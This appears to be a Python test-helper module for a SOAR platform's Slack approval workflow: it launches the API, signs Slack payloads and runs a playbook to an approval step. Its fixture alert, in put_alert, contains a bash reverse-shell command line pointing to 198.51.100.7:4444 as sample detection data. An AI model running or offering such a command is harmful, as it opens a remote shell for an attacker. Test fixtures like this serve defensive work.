"""Helpers for the interactivity tests: a real `soar api` subprocess, signed payloads, a real playbook run."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from soar.config import Settings, get_settings, load_settings
from soar.store import Store, open_store
from tests.integration.notify.content import RULE_ID
from tests.integration.notify.standin import Workspace
from tests.services import require
from tests.workers import kill_group

SECRET = "test-signing-secret-8f2d"
REPO_ROOT = Path(__file__).resolve().parents[3]


@dataclass
class Api:
    url: str
    settings: Settings
    workspace: Workspace
    env: dict[str, str]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def api_env(root: Path, workspace: Workspace, *, eager: bool, redis_url: str | None = None) -> dict[str, str]:
    env = {
        "SOAR_CONTENT_ROOT": str(root),
        "SOAR_STATE_DIR": str(root / "state"),
        "SOAR_CELERY_EAGER": "true" if eager else "false",
        "SOAR_SLACK_BOT_TOKEN": workspace.token,
        "SOAR_SLACK_API_URL": workspace.api_url,
        "SOAR_SLACK_SIGNING_SECRET": SECRET,
        "SOAR_SLACK_CHANNEL_INTERVAL": "0",
        "SOAR_API_TOKENS_FILE": str(root / "tokens.yml"),
    }
    if redis_url:
        env["SOAR_REDIS_URL"] = redis_url
    return env


@contextmanager
def serve_api(root: Path, workspace: Workspace, env: dict[str, str]) -> Iterator[Api]:
    """`soar api` on a free port with ``env``; this process gets the same settings (its engine runs eagerly)."""
    port = _free_port()
    base = {k: v for k, v in os.environ.items() if not k.startswith("SOAR_")}
    log = (root / "api.log").open("ab")
    proc = subprocess.Popen(
        [sys.executable, "-m", "soar", "api", "--host", "127.0.0.1", "--port", str(port)],
        env={**base, **env},
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
        cwd=root,
    )
    url = f"http://127.0.0.1:{port}"

    def _ready() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if proc.poll() is not None:
                raise RuntimeError(f"soar api exited with {proc.returncode}: {(root / 'api.log').read_text()[-2000:]}")
            try:
                if httpx.get(f"{url}/health", timeout=1).status_code == 200:
                    return
            except httpx.HTTPError:
                time.sleep(0.1)
        raise RuntimeError("soar api did not start")

    mp = pytest.MonkeyPatch()
    for key, value in env.items():
        mp.setenv(key, value)
    get_settings.cache_clear()
    try:
        require("soar api", _ready)
        yield Api(url, load_settings(), workspace, env)
    finally:
        mp.undo()
        kill_group(proc)
        log.close()


def open_test_store(api: Api) -> Store:
    """The store the API uses; serve_api keeps this module's SOAR_* environment until the module ends."""
    assert all(os.environ.get(k) == v for k, v in api.env.items())
    return open_store(api.settings)


def start_run(api: Api, store: Store) -> tuple[str, str]:
    """A real run through the playbook engine, paused at its 2-of-M approval."""
    import soar.tasks.notify  # noqa: F401 (registers the run-event task the engine publishes to)
    from soar.playbooks import dispatch
    from soar.playbooks.engine import handle_alert

    alert_id = put_alert(store)
    rt = dispatch.runtime_for(get_settings(), store)
    (run_id,) = handle_alert(rt, alert_id)
    dispatch.kick(get_settings(), run_id, store=store, runtime=rt)
    return run_id, waiting_step(store, run_id)


def put_alert(store: Store) -> str:
    alert_id = uuid.uuid4().hex
    store.put(
        "alerts",
        alert_id,
        {
            "id": alert_id,
            "@timestamp": "2026-11-28T12:00:00.000Z",
            "rule": {"id": RULE_ID, "title": "Reverse shell", "level": "high", "tags": ["attack.t1059.004"]},
            "severity": "high",
            "host": {"name": f"web-{alert_id[:6]}"},
            "events": [{"process": {"command_line": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}}],
        },
    )
    return alert_id


def waiting_step(store: Store, run_id: str, timeout: float = 30) -> str:
    pending = eventually(lambda: store.find("approvals", {"run_id": run_id, "status": "pending"}), timeout)
    assert pending and len(pending) == 1, "the run waits for approval"
    return str(pending[0].doc["step"])


def payload(run_id: str, step: str, user: str, action_id: str = "soar.approve", channel: str = "C0") -> dict[str, Any]:
    return {
        "type": "block_actions",
        "user": {"id": user, "username": user.lower()},
        "channel": {"id": channel},
        "container": {"type": "message", "message_ts": "1.0"},
        "actions": [
            {
                "action_id": action_id,
                "value": json.dumps({"run_id": run_id, "step_id": step}),
                "action_ts": f"{time.time():.6f}",
            }
        ],
    }


def signed(body: bytes, secret: str = SECRET, ts: int | None = None) -> dict[str, str]:
    stamp = str(int(time.time()) if ts is None else ts)
    digest = hmac.new(secret.encode(), f"v0:{stamp}:".encode() + body, hashlib.sha256).hexdigest()
    return {
        "X-Slack-Request-Timestamp": stamp,
        "X-Slack-Signature": f"v0={digest}",
        "Content-Type": "application/x-www-form-urlencoded",
    }


def post(api: Api, payload: Any, **sign: Any) -> tuple[httpx.Response, bytes]:
    body = urlencode({"payload": json.dumps(payload)}).encode()
    resp = httpx.post(f"{api.url}/slack/interactivity", content=body, headers=signed(body, **sign), timeout=10)
    return resp, body


def eventually(check: Callable[[], Any], timeout: float = 20) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(0.1)


def approval(store: Store, run_id: str) -> dict[str, Any]:
    return store.find("approvals", {"run_id": run_id})[0].doc


def channel_id(api: Api) -> str:
    return api.workspace.channels["soc-alerts"]


def approval_message(api: Api, run_id: str) -> dict[str, Any]:
    for m in api.workspace.state()["messages"]:
        if any(b.get("block_id", "").startswith(f"approval:{run_id}") for b in m["blocks"]) or (
            m["edits"]
            and any(b.get("block_id", "").startswith(f"approval:{run_id}") for e in m["edits"] for b in e["blocks"])
        ):
            return dict(m)
    raise AssertionError("no approval message in Slack")


def approval_message_or_none(api: Api, run_id: str) -> dict[str, Any] | None:
    """The run's approval message, or None while Slack has none yet (for ``eventually``)."""
    try:
        return approval_message(api, run_id)
    except AssertionError:
        return None
